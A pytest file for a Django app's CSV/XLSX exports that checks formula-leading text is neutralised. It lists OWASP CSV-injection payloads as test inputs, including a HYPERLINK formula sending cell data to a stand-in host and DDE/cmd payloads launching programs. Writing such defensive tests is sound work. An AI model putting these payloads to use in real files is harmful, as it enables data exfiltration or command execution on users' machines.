"""Every CSV/XLSX export goes through core.exports: formula-leading text is neutralised, XLSX holds values only."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core import exports
from tests.factories import BKMFactory, UserFactory
from tests.forum.conftest import ensure_reference_data as ensure_forum_reference_data
from tests.forum.factories import PostFactory, ThreadFactory
from tests.forum.hostile import HOSTILE_INPUTS
from upk import services as upk_services

# OWASP "CSV Injection" payloads, plus the forum's hostile corpus.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]
CORPUS = FORMULAS + HOSTILE_INPUTS
FORMULA_START = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def _csv_cells(response) -> list[str]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Cache-Control"] == "private, no-store"
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body[1:]), delimiter=";"))
    return [cell for row in rows for cell in row]


def _xlsx_cells(response) -> list[str]:
    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"
    wb = load_workbook(io.BytesIO(response.content))
    cells = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str):
                    cells.append(cell.value)
    return cells


def _assert_inert_csv(cells: list[str], expected: list[str]) -> None:
    for cell in cells:
        if cell.startswith(FORMULA_START):
            assert exports._PLAIN_NUMBER.fullmatch(cell), cell
    for text in expected:
        assert exports.neutralise(text) in cells or exports.neutralise(text.strip()) in cells, text


def _assert_values_xlsx(cells: list[str], expected: list[str]) -> None:
    for text in expected:
        clean = exports._XML_ILLEGAL.sub("", text)
        assert clean in cells or clean.strip() in cells, text


def test_neutralise_prefixes_formula_leading_text_only():
    assert exports.neutralise("=1+1") == "'=1+1"
    assert exports.neutralise("@x") == "'@x"
    assert exports.neutralise("\t=1") == "'\t=1"
    assert exports.neutralise("-1500") == "-1500"
    assert exports.neutralise("+62 812") == "'+62 812"
    assert exports.neutralise("KSM Maju") == "KSM Maju"
    assert exports.csv_cell(date(2024, 3, 5)) == "05-03-2024"


@pytest.mark.django_db
def test_bkm_exports_neutralise_hostile_names(client, staff_admin):
    names = [f"{text}"[:200] for text in FORMULAS]
    for name in names:
        BKMFactory(name=name)
    client.force_login(staff_admin)
    _assert_inert_csv(_csv_cells(client.get(reverse("bkm:export_csv"))), names)
    _assert_values_xlsx(_xlsx_cells(client.get(reverse("bkm:export_xlsx"))), names)


@pytest.mark.django_db
def test_api_csv_neutralises_hostile_names(client):
    names = FORMULAS[:5]
    for name in names:
        BKMFactory(name=name)
    response = client.get("/api/bkm/?format=csv")
    _assert_inert_csv(_csv_cells(response), names)


@pytest.mark.django_db
def test_forum_export_neutralises_hostile_corpus(client, staff_admin):
    ensure_forum_reference_data()
    thread = ThreadFactory(title='=HYPERLINK("http://x")', author=staff_admin)
    for text in CORPUS:
        PostFactory(thread=thread, body_source=text)
    client.force_login(staff_admin)
    cells = _csv_cells(client.get(reverse("forum:thread_export", args=[thread.pk])))
    _assert_inert_csv(cells, CORPUS)
    cells = _csv_cells(client.get(reverse("forum:category_export", args=[thread.category.slug])))
    _assert_inert_csv(cells, CORPUS)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "name",
    ["upk:list", "upk:ksm_list", "upk:journal", "upk:cash_book", "upk:trial_balance", "upk:neraca", "upk:laba_rugi"],
)
def test_upk_exports_neutralise_hostile_corpus(client, bkm, name):
    upk = bkm.units.get(unit_type="upk")
    upk_services.settings.upk_setup(upk=upk)
    manager = UserFactory(role="upk_manager", username="manajer_ekspor")
    manager.upk_units.set([upk])
    upk.name = FORMULAS[0]
    upk.save(update_fields=["name"])
    capital = upk.accounts.get(role="capital_kotaku")
    for i, text in enumerate(CORPUS):
        upk_services.cash.capital_receive(
            upk=upk,
            account=capital,
            amount=1000 + i,
            date=date(2024, 1, 2),
            description=text,
            actor=manager,
            idempotency_key=f"ekspor-{i}",
            channel="kas",
        )
    for i, text in enumerate(FORMULAS):
        upk_services.registry.ksm_create(
            upk=upk, code=f"K{i}", name=text, kelurahan=bkm.kelurahan, formed_on=date(2024, 1, 5), actor=manager
        )
    upk_services.settings.account_create(upk=upk, actor=manager, code="1199", name="=SUM(A1:A9)", kind="asset")
    expected = {
        "upk:list": [FORMULAS[0]],
        "upk:ksm_list": [t.strip() for t in FORMULAS],
        "upk:journal": CORPUS,
        "upk:cash_book": CORPUS,
        "upk:trial_balance": ["=SUM(A1:A9)"],
        "upk:neraca": [],
        "upk:laba_rugi": [],
    }[name]
    url = reverse(name) if name == "upk:list" else reverse(name, args=[upk.pk])
    client.force_login(manager)
    _assert_inert_csv(_csv_cells(client.get(url, {"format": "csv", "dari": "2020-01-01"})), expected)
    _assert_values_xlsx(_xlsx_cells(client.get(url, {"format": "xlsx", "dari": "2020-01-01"})), expected)
